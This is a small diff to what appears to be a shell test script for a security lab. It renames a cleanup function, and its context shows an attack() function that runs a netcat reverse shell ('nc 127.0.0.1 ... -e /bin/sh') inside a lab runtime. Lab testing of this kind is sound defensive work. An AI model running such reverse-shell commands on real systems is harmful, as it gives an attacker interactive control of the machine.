@@ -7,4 +7,4 @@ attack() {
   LAB_RUNTIME=$LAB_RUNTIME timeout 10 bash -c "$(declare -f rt lab_log); rt exec \"\$@\"" _ "$1" \
     /bin/nc 127.0.0.1 "$LISTEN_PORT" -e /bin/sh || true
 }
-host_cleanup() { shell_listener_stop; }
+host_cleanup() { listener_stop; }
